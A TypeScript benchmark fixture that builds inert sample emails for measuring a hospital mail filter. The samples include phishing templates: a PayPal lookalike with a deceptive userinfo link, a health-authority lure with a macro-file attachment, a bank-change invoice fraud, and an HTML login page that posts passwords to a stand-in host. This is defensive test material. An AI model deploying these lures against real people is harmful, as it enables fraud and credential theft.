/**
 * Mails to measure with: written for this project, inert, on reserved names, of the shapes and sizes that people report.
 * Every one differs, so that nothing is measured twice out of a cache.
 */

const WORDS =
  'please find the minutes of our last meeting below the ward rota changes next week and the kitchen will be closed on Friday afternoon thank you for your patience'.split(
    ' ',
  );

function prose(seed: number, words: number): string {
  return Array.from({ length: words }, (_, at) => WORDS[(seed * 7 + at * (3 + (seed % 5))) % WORDS.length]).join(' ');
}

function base64(text: string | Uint8Array): string {
  return (
    Buffer.from(text)
      .toString('base64')
      .match(/.{1,76}/g) ?? []
  ).join('\r\n');
}

function mail(number: number, from: string, subject: string, type: string, body: string, more: string[] = []): string {
  return [
    `Received: from relay.example (relay.example [192.0.2.${number % 250}]) by mx.hospital.example; Mon, 2 Feb 2026 10:00:00 +0000`,
    `Authentication-Results: mx.hospital.example; spf=pass smtp.mailfrom=sender.example; dkim=none`,
    `From: ${from}`,
    'To: ward@hospital.example',
    `Subject: ${subject}`,
    'Date: Mon, 2 Feb 2026 10:00:00 +0000',
    `Message-ID: <bench-${number}@sender.example>`,
    ...more,
    'MIME-Version: 1.0',
    `Content-Type: ${type}`,
    '',
    body,
  ].join('\r\n');
}

function multipart(parts: [head: string, body: string][]): string {
  return `${parts.map(([head, body]) => `--edge\r\n${head}\r\n\r\n${body}\r\n`).join('')}--edge--\r\n`;
}

const SHAPES: ((number: number) => string)[] = [
  (n) => mail(n, 'Ada Chen <ada.chen@hospital.example>', `Minutes ${n}`, 'text/plain; charset=utf-8', prose(n, 200)),
  (n) =>
    mail(
      n,
      '"PayPal Service" <service@paypa1-secure.example>',
      'Your account has been limited',
      'text/html; charset=utf-8',
      `<p>${prose(n, 40)}</p><p>Verify your account immediately.</p><a href="http://www.paypal.com@192.0.2.7/login?n=${n}">https://www.paypal.com/</a>`,
      ['Reply-To: collect@inbox.test'],
    ),
  // A newsletter: a table layout with a hundred links through a counter, 60 kB.
  (n) =>
    mail(
      n,
      'Garden Monthly <news@garden.example>',
      `What to plant in month ${n % 12}`,
      'text/html; charset=utf-8',
      `<html><body><table>${Array.from(
        { length: 100 },
        (_, row) =>
          `<tr><td style="padding:4px;font-family:sans-serif"><img src="https://img.garden.example/${n}/${row}.png"><a href="https://click.garden.example/c/${n}/${row}?u=abcdef">${prose(row, 8)}</a><p>${prose(n + row, 45)}</p></td></tr>`,
      ).join('')}</table></body></html>`,
      ['List-Unsubscribe: <https://garden.example/out>'],
    ),
  (n) =>
    mail(
      n,
      '卫生健康委 <notice@nhc-gov.example>',
      `=?utf-8?B?${Buffer.from('新型冠状病毒感染的预防措施').toString('base64')}?=`,
      'multipart/mixed; boundary=edge',
      multipart([
        [
          'Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64',
          base64(`各位同事，请立即启用内容并填写申请表 ${n}。`),
        ],
        [
          `Content-Type: application/octet-stream; name="form-${n}.xlsm"\r\nContent-Disposition: attachment; filename="form-${n}.xlsm"\r\nContent-Transfer-Encoding: base64`,
          base64(new Uint8Array(20_000).fill(n % 251)),
        ],
      ]),
    ),
  // An inline forward of a bank-change fraud.
  (n) =>
    mail(
      n,
      'Bo Lind <bo.lind@hospital.example>',
      'Fwd: Invoice',
      'text/plain; charset=utf-8',
      `Is this real?\r\n\r\n---------- Forwarded message ---------\r\nFrom: Supplier <billing@supplier-${n}.example>\r\nDate: Mon, 2 Feb 2026 at 09:00\r\nSubject: Invoice ${n}\r\nTo: <bo.lind@hospital.example>\r\n\r\nOur bank details have changed. Please pay to the new account. ${prose(n, 120)}\r\n`,
    ),
  // A login page as an attachment.
  (n) =>
    mail(
      n,
      'Scanner <scan@copier.example>',
      `Scan ${n}`,
      'multipart/mixed; boundary=edge',
      multipart([
        ['Content-Type: text/plain; charset=utf-8', 'You have received a scanned document.'],
        [
          'Content-Type: text/html; name="Scan.html"\r\nContent-Disposition: attachment; filename="Scan.html"\r\nContent-Transfer-Encoding: base64',
          base64(
            `<form action="https://collect-${n}.example/x"><input type="password" name="p"></form>${'<div>'.repeat(200)}`,
          ),
        ],
      ]),
    ),
];

/** `count` different mails, the shapes in turn. */
export function mails(count: number): Uint8Array[] {
  return Array.from({ length: count }, (_, number) => {
    const shape = SHAPES[number % SHAPES.length] as (number: number) => string;
    return new TextEncoder().encode(shape(number));
  });
}
